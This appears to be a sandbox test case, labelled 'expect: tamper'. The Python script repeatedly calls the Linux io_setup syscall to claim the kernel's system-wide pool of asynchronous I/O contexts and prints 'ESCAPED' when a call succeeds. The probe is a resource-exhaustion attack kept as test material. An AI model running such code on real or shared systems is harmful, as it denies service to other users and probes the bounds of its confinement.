# expect: tamper
"""Takes all asynchronous requests that the kernel has for everybody, and keeps them."""
import ctypes
import platform

libc, number = ctypes.CDLL(None), {"x86_64": 206, "aarch64": 0}[platform.machine()]
for _ in range(100):
    if libc.syscall(number, 2000, ctypes.byref(ctypes.c_ulong(0))) == 0:
        print("ESCAPED")
